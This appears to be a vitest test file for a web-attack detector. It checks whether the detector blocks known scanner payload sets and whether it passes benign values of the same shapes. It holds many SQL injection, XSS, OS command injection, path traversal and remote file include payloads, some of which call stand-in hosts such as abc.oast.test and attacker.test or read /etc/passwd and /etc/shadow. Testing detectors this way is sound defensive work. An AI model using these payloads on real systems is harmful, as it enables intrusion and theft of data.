// Round 11: the payload sets of automated scanners other than the round-10 tools, written from knowledge of their
// published rules and wordlists, none from the development corpus: OWASP ZAP's active scan rules (SQL injection and
// its MySQL / PostgreSQL / MsSQL / Oracle / SQLite / Hypersonic time-based variants, reflected and persistent XSS,
// OS command injection, path traversal, remote file include), Nuclei's DAST fuzzing templates (sqli, xss, cmdi, lfi,
// OAST probes), Arachni's and Wapiti's checks (os_cmd_injection / exec, code_injection, xss, path_traversal / file,
// rfi), the wfuzz/ffuf Injections/* wordlists (All_attack, SQL, XSS, Traversal) and Burp Scanner's insertion payloads
// (Collaborator look-ups, time delays, echo tags). Each group is crossed with the insertion points the tools use (bare,
// after a value, URL-encoded as sent unless already encoded). Error-provoking probes ("'", '"', "\\", "<>\"'%;)(&+"), single SQL words and
// bare URLs are no attack by themselves: they sit in their own group, measured but not counted as misses.
// The benign group: ordinary values of the shapes these tools send (URLs, file names, punctuation in text).
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { writeFileSync, mkdirSync } from 'node:fs';
import { createDetector, type Detector } from '../../src/index.js';

let d1: Detector;
let d2: Detector;
beforeAll(async () => { d1 = await createDetector({ paranoia: 1 }); d2 = await createDetector({ paranoia: 2 }); });
afterAll(async () => { await d1.close(); await d2.close(); });

const blocked = (d: Detector, p: string): boolean => d.scan(p, { context: 'query' }).blocked;
const dump = (name: string, lines: string[]): void => {
  if (!process.env.SWEEP_DUMP) return;
  mkdirSync(process.env.SWEEP_DUMP, { recursive: true });
  writeFileSync(`${process.env.SWEEP_DUMP}/scanners-${name}.txt`, lines.map((l) => JSON.stringify(l)).join('\n') + '\n');
};
const enc = (s: string): string => encodeURIComponent(s);
// insertion points: bare, appended to an ordinary value, URL-encoded as a scanner sends it
const points = (list: string[], values = ['', '1', 'test']): string[] => {
  const out: string[] = [];
  for (const p of list) for (const v of values) { out.push(v + p); if (!p.includes('%')) out.push(enc(v + p)); }
  return [...new Set(out)];
};

// ---- SQL injection: ZAP SqlInjection* rules, Burp, Nuclei, wfuzz SQL.txt, Wapiti/Arachni
const SQLI = [
  "' AND '1'='1", "' AND '1'='2", '" AND "1"="1', ' AND 1=1', ' AND 1=2', ' AND 1=1 -- ', "' OR '1'='1", ' OR 1=1', "' OR 'a'='a' -- ",
  "' UNION ALL select NULL -- ", '" UNION ALL select NULL -- ', ') UNION ALL select NULL -- ', "') UNION ALL select NULL -- ",
  "' UNION ALL select NULL,NULL -- ", "' / sleep(15) / '", '" / sleep(15) / "', ' and 0 in (select sleep(15) ) -- ',
  "' where 0 in (select sleep(15) ) -- ", ' where 0 in (select sleep(15) ) -- ', ' or 0 in (select sleep(15) ) -- ',
  "' | case when cast(pg_sleep(15) as varchar) > '' then 0 else 1 end -- ", ' | case when cast(pg_sleep(15) as varchar) > \'\' then 0 else 1 end -- ',
  "') WAITFOR DELAY '0:0:15' --", " WAITFOR DELAY '0:0:15' --", "'; WAITFOR DELAY '0:0:15' --", '); WAITFOR DELAY \'0:0:15\' --',
  "' and 1 in (SELECT UTL_INADDR.get_host_name('10.0.0.1') from dual) -- ", "' | case randomblob(100000) when not null then 1 else 1 end | '",
  "' and exists (select \"java.lang.Thread.sleep\"(15000) from INFORMATION_SCHEMA.SYSTEM_COLUMNS) -- ",
  "'||pg_sleep(20)--", "'+(select*from(select(sleep(20)))a)+'", "',0)waitfor delay'0:0:20'--", "1 waitfor delay'0:0:20'--",
  "'+(select load_file('\\\\\\\\abc.collab.test\\\\x'))+'", "';declare @q varchar(99);set @q='\\\\abc.collab.test\\x'; exec master.dbo.xp_dirtree @q;--",
  "'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % a SYSTEM \"http://abc.collab.test/\">%a;]>'),'/l') from dual)||'",
  ' AND 8127=8127', "' AND 8127=8128-- ", "' or 0=0 --", '" or 0=0 --', "' or 0=0 #", "' or 1=1--", '" or 1=1--', "' or '1'='1'--",
  "' or 1=1 or ''='", '" or 1=1 or ""="', "') or ('a'='a", '") or ("a"="a', "hi' or 1=1 --", "hi') or ('a'='a", "admin'--", "'%20or%20'x'='x",
  "'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "' UNION SELECT username,password FROM users--", "' or username like '%", '1;SELECT%20*',
  "' or 1 in (@@version)--", "1' ORDER BY 1--+", "1' ORDER BY 3--+", "1' GROUP BY 1,2--+", "' and extractvalue(1,concat(0x7e,version()))-- ",
  "' and updatexml(1,concat(0x7e,user()),1)-- ", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)", "1' AND SLEEP(5) AND '1'='1", "1;SELECT pg_sleep(5)--",
  "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "' AND 1=CONVERT(int,@@version)--", "1' AND 1=(SELECT COUNT(*) FROM tabname); --",
];
// ---- XSS: ZAP CrossSiteScripting rules, Burp, Nuclei, Wapiti, Arachni, wfuzz XSS.txt
const XSS = [
  '<scrIpt>alert(1);</scRipt>', '"><scrIpt>alert(1);</scRipt>', '\'"<scrIpt>alert(1);</scRipt>', '</p><scrIpt>alert(1);</scRipt><p>',
  '--><scrIpt>alert(1);</scRipt><!--', '</textarea><scrIpt>alert(1);</scRipt>', '</title><scrIpt>alert(1);</scRipt>', '<img src=x onerror=prompt()>',
  '"><img src=x onerror=prompt()>', 'javascript:alert(1);', '" onMouseOver="alert(1);', '\' onMouseOver=\'alert(1);', 'accesskey=\'x\' onclick=\'alert(1)\' b',
  '";alert(1);"', '\';alert(1);\'', '" src=http://badsite.test/xssvuln.js "', '<sVg onload=alert(1)>',
  'fr8ba<script>alert(1)</script>d1d7a', '"><img src=a onerror=alert(1)>', 'javascript:alert(1)//', "'-alert(1)-'", "';alert(1)//", "\\';alert(1)//",
  '</script><script>alert(1)</script>', "{{constructor.constructor('alert(1)')()}}", '"onmouseover="alert(1)', '" autofocus onfocus=alert(1) x="',
  '\'"><img src=x onerror=alert(document.domain)>', '"><svg/onload=alert(document.domain)>', '<details open ontoggle=alert(document.domain)>',
  "<ScRiPt>alert('wapiti')</sCrIpT>", "\"><ScRiPt>alert('wapiti')</sCrIpT>", "'><ScRiPt>alert('wapiti')</sCrIpT>", '<ScRiPt/x>alert(1)</ScRiPt>',
  '<object data=javascript:alert(1)>', '<a href=javascript:alert(1)>x</a>', '<iframe src=javascript:alert(1)>',
  '<div style="background-image:url(javascript:alert(1))">', '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<some_dangerous_input_8bc4 onmouseover=alert(1)>', '"><some_dangerous_input_8bc4/>', '<some_dangerous_input_8bc4/>',
  '>"><script>alert("XSS")</script>&', '"><STYLE>@import"javascript:alert(\'XSS\')";</STYLE>', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(&quot;XSS&quot;)>', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '%3cscript%3ealert(document.cookie)%3c/script%3e', "<BODY ONLOAD=alert('XSS')>", '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<XSS STYLE="behavior: url(xss.htc);">', '<BGSOUND SRC="javascript:alert(\'XSS\');">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS', '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<BASE HREF="javascript:alert(\'XSS\');//">', '<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(\'XSS\')></OBJECT>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->', '<SCRIPT a=">" SRC="http://xss.test/x.js"></SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', '<SCRIPT/XSS SRC="http://xss.test/xss.js"></SCRIPT>', '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\')"', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">', '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:&#101;x&#x2F;*XSS*//*/pression(alert("XSS"))\'>', '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">', '+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-', '<SCRIPT SRC=//xss.test/.j>',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', '<BR SIZE="&{alert(\'XSS\')}">', '<LAYER SRC="http://xss.test/scriptlet.html"></LAYER>', '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<XSS STYLE="xss:expression(alert(\'XSS\'))">', '<A HREF="javascript:document.location=\'http://www.example.test/\'">XSS</A>',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(\'XSS\');">]]></C></X></xml><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
  '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.test/xss.htc"><xss:xss>XSS</xss:xss></HTML>',
];
// ---- OS command injection: ZAP CommandInjection, Burp, Nuclei, Arachni os_cmd_injection, Wapiti exec
const CMDI: string[] = [];
for (const [pre, suf] of [['&', '&'], [';', ';'], ['"&', '&"'], ["'&", "&'"], ['|', ''], ['"|', ''], ["'|", ''], ['||', ''], ['\n', '\n'], ['`', '`'], ['$(', ')'], [';', '\u0000'], ['&', '%00']]) {
  for (const body of ['cat /etc/passwd', 'type %SYSTEMROOT%\\win.ini', 'sleep 15', 'timeout /T 15', 'get-help', 'start-sleep -s 15', 'run system32\\cmd.exe /c type %SYSTEMROOT%\\win.ini']) {
    CMDI.push(pre + body + suf);
  }
}
CMDI.push(';get-help #', '";get-help #', "';get-help #", '";get-help', "';get-help",
  '|echo iyq8x5tvdh', '&echo iyq8x5tvdh&', ';echo iyq8x5tvdh;', '`echo iyq8x5tvdh`', '|ping -c 21 127.0.0.1||x', '&ping -n 21 127.0.0.1&',
  '|nslookup -q=cname abc.collab.test&', "'\"`0&nslookup -q=cname abc.collab.test&`'", '$(nslookup -q=cname abc.collab.test)',
  '|ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #\' |ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #" |ping -n 21 127.0.0.1',
  ';nslookup abc.oast.test', '&nslookup abc.oast.test&\'\\"`0&nslookup abc.oast.test&`\'', ' $(nslookup abc.oast.test)', '|nslookup abc.oast.test',
  ';curl abc.oast.test', '`curl abc.oast.test`', '$(id)', '`id`', '|id', ';id', '&& id', '; wget http://abc.oast.test',
  '/bin/cat /etc/passwd', '&/bin/cat /etc/passwd', '&&/bin/cat /etc/passwd', '|/bin/cat /etc/passwd', ';/bin/cat /etc/passwd', "'&/bin/cat /etc/passwd",
  '"|/bin/cat /etc/passwd', ';/bin/cat /etc/passwd\u0000', ';/bin/cat /etc/passwd#', 'type %SystemDrive%\\boot.ini', '&type %SystemDrive%\\boot.ini',
  '|type %SystemDrive%\\boot.ini', '&&ping -n 15 localhost', ';sleep 15', '|sleep 15', '`sleep 15`',
  ';env;', 'a;env', 'a);env', ';set', 'a;set', 'a);set', '|set', 'a|set', '`set`', ';cat /etc/passwd', '|cat /etc/passwd', 'a|cat /etc/passwd',
  'a;cat /etc/passwd', 'a);cat /etc/passwd', 'a;cat /etc/passwd;', '`cat /etc/passwd`', 'a);sleep 60', ';sleep 60;', ';systeminfo', '||systeminfo', '&systeminfo',
  "system('cat /etc/passwd')", "a;system('cat /etc/passwd')", "';system('id');'", '";system("id");"', '";echo 1337*1337;"', "';print 1337*1337;'",
  ';echo 1337*1337;', "response.write 1337*1337", "'+response.write(1337*1337)+'",
);
// ---- path traversal and file inclusion: ZAP PathTraversal, Nuclei LFI, Arachni path_traversal, Wapiti file, wfuzz Traversal, Burp
const PATH: string[] = [];
for (const f of ['etc/passwd', 'Windows/system.ini', 'windows/win.ini', 'WEB-INF/web.xml', 'boot.ini']) {
  for (const depth of [2, 4, 8, 16]) {
    PATH.push('../'.repeat(depth) + f, '..\\'.repeat(depth) + f.replaceAll('/', '\\'), '../'.repeat(depth) + f + '%00', '../'.repeat(depth) + f + '%00.png',
      '....//'.repeat(depth) + f, '..%2f'.repeat(depth) + f, '%2e%2e%2f'.repeat(depth) + f, '..%252f'.repeat(depth) + f, '/%5C..'.repeat(depth) + '/' + f,
      '..%c0%af'.repeat(depth) + f, '..%u2215'.repeat(depth) + f, '%2e%2e/'.repeat(depth) + f);
  }
}
PATH.push('/etc/passwd', '/etc/passwd%00', 'c:/Windows/system.ini', 'c:\\Windows\\system.ini', 'd:\\Windows\\system.ini', '/WEB-INF/web.xml', '\\WEB-INF\\web.xml',
  'file:///etc/passwd', 'file:///c:/Windows/system.ini', 'file:///c:/boot.ini', '/boot.ini', 'c:\\boot.ini', '/proc/self/environ', '/etc/shadow',
  'php://filter/read=convert.base64-encode/resource=index.php', 'php://filter/convert.base64-encode/resource=../config.php', '/var/www/images/../../../etc/passwd',
  '\\\\127.0.0.1\\c$\\boot.ini', 'c:/windows/win.ini', 'data:;base64,PD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA/Pg==', 'expect://id', '/etc/passwd\u0000',
  '../../../../../../../../../../etc/passwd%00.jpg', '..%5c..%5c..%5c..%5cwindows%5cwin.ini', '/..%252f..%252f..%252fetc/passwd', '%252e%252e%252fetc%252fpasswd');
// ---- remote file include: ZAP RemoteFileInclude, Wapiti, Arachni rfi, Burp (a URL given where a file is expected)
const RFI = ['http://www.google.com/', 'http://www.google.com:80/', 'http://www.google.com', 'http://www.google.com/search?q=OWASP%20ZAP',
  'www.google.com/', 'www.google.com:80/', 'http://www.google.com/%00', 'http://www.google.com:80/?', 'hTtP://tests.arachni-scanner.test/rfi.md5.txt',
  'http://abc.collab.test/?', 'https://abc.collab.test/', 'http://wapiti3.test/e.php', 'http://wapiti3.test/e.php%00', 'http://wapiti3.test/e.php?',
  '//abc.collab.test/shell.txt?', 'http://attacker.test/shell.txt%00', 'http://attacker.test/shell.txt?', 'ftp://attacker.test/shell.txt'];
// ---- fuzz probes that are no attack by themselves (error provocation, single words, markers)
const PROBES = ["'", '"', '\\', ';', ')', '(', 'NULL', '\'"', "'(", '%', '#', '-', '--', "''", '<>"\'%;)(&+', '<31337>', '\'"><31337>', 'select', 'union', 'or',
  'order by', 'having', '@variable', 'PRINT', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', 'thishouldnotexistandhopefullyitwillnot', '*|', '*(|(mail=*))'];

// ---- ordinary values of the shapes these tools send
const BENIGN = [
  'https://www.example.com/search?q=shoes&page=2', 'www.example.com/about', 'http://example.org:8080/', 'see https://docs.example.com/path/to/page?x=1',
  'report-2024.pdf', 'images/logo.png', '../assets/style.css', 'docs/README.md', 'C:\\Users\\Public\\Documents\\notes.txt', '/home/user/projects',
  "Rock 'n' Roll", 'O\'Reilly & Sons', 'Tom & Jerry; the movie', 'cats | dogs', 'Q&A: where is /etc?', 'Price: $5 (was $7)', 'email me at a@b.test',
  'The system.ini file', 'win.ini settings explained', 'What is /etc/hosts for?', 'A "quoted" word and an \'apostrophe\'', 'x < y and y > z',
  'Select your size', 'Order by price, then by name', 'union station', 'sleep 8 hours', 'ping me later', 'type your name', 'echo chamber',
  'start-sleep tips', 'get-help desk', 'wait for delay notice', '1337 * 1337 = ?', 'alert: the server is down', 'onload event docs',
  'javascript tutorial', 'script writer wanted', '<3 thanks', 'a <b>bold</b> claim', 'Response.Write docs', 'print 1337 copies',
  'google.com', 'http://www.google.com/search?q=owasp', 'file:// links are disabled', 'ftp server address', 'set up your account', 'env vars guide',
];

const GROUPS: Array<[string, string[]]> = [
  ['sqli', points(SQLI)], ['xss', points(XSS, ['', 'test'])], ['cmdi', points(CMDI)], ['path', points(PATH, [''])], ['rfi', points(RFI, [''])],
];

describe('scanner payload sets (round 11)', () => {
  for (const [name, all] of GROUPS) {
    it(name, () => {
      const missed = all.filter((p) => !blocked(d1, p));
      dump(name, missed);
      console.log(`${name}: ${all.length - missed.length}/${all.length}`);
      expect(all.length).toBe(COUNTS[name]);
      expect(missed.length, `missed:\n${missed.slice(0, 100).map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES[name]!);
    });
  }
  it('fuzz probes (no attack by themselves: measured only)', () => {
    const all = points(PROBES, ['', 'test']);
    const hit = all.filter((p) => blocked(d1, p));
    dump('probes-blocked', hit);
    console.log(`probes: ${hit.length}/${all.length} blocked`);
    expect(all.length).toBe(COUNTS.probes);
  });
  it('ordinary values of the same shapes (paranoia 1 and 2)', () => {
    const all = points(BENIGN, ['']);
    const f1 = all.filter((p) => blocked(d1, p));
    const f2 = all.filter((p) => blocked(d2, p));
    dump('benign-p1', f1); dump('benign-p2', f2);
    console.log(`benign: p1 ${f1.length}/${all.length}, p2 ${f2.length}/${all.length}`);
    expect(all.length).toBe(COUNTS.benign);
    expect(f1.length, `flagged:\n${f1.join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.p1);
    expect(f2.length, `flagged p2:\n${f2.join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.p2);
  });
});

// Measured when written (round 11, on main as it was, before any change): sqli 393/393, xss 348/356, cmdi 706/858, path
// 345/347, rfi 0/32; fuzz probes 2/90 blocked ('"><31337> after a value); ordinary values 4/92 flagged at paranoia 1
// (../assets/style.css, "file:// links are disabled", each plain and encoded), 12/92 at paranoia 2.
// Changed since (cmdi.ts): PowerShell cmdlets Verb-Help, Verb-Sleep, Verb-Computer (;get-help ;start-sleep -s 15, ZAP's
// probe and timing payloads; Help only glued to ';' or a newline: "Tips; get-help now" is prose), and a cmdlet glued to '|'
// (x|Get-Content, "|start-sleep -s 15": PowerShell's pipeline; "Home | Get-Started" with spaces stays prose, and Help never
// after '|': "Home|Get-Help|Contact" is a menu). cmdi 760/858 now; ordinary values unchanged.
// And (xss.ts, reported as path.file-scheme): PHP code in a data: URI, data:,<?php and data:;base64,PD9waHA... (base64 of
// "<?php"; also data: with no media type, data:;charset=x,<b now reads as data:,<b does): PHP's include runs it through the
// data:// wrapper (Wapiti's file check). path 347/347 now.
// Misses left, and why:
// - cmdi 98: &get-help& &start-sleep -s 15& (42, 6 of them with %00): '&' is no PowerShell separator before 7 (a parse error)
//   and "Q&A", "AT&T" keep '&' out of the name-after-separator watch; |get-help ||get-help (24): Help after '|' is a menu
//   ("Home|Get-Help|Contact"); `get-help` `start-sleep -s 15` (12): a backtick is PowerShell's escape, not a substitution,
//   and no shell has these names; `set` (2: set alone is a field name); ';print 1337*1337;' and response.write 1337*1337
//   (Arachni's code-injection echo, 18 with the encoded forms): arithmetic printed, nothing run.
// - xss 8: '" src=http://badsite.test/xssvuln.js "' (a src attribute added to a tag that has one is ignored; only a bare
//   <script> would load it) and Arachni's <some_dangerous_input_x/> marker (an unknown empty tag: no script).
// - rfi 32: a URL alone (http://www.google.com/, with ? or %00 after it) is an ordinary value; nothing marks it as included.
const COUNTS: Record<string, number> = { sqli: 393, xss: 356, cmdi: 858, path: 347, rfi: 32, probes: 90, benign: 92 };
const MISSES: Record<string, number> = { sqli: 0, xss: 8, cmdi: 98, path: 0, rfi: 32 };
const BENIGN_FLAGGED = { p1: 4, p2: 12 };
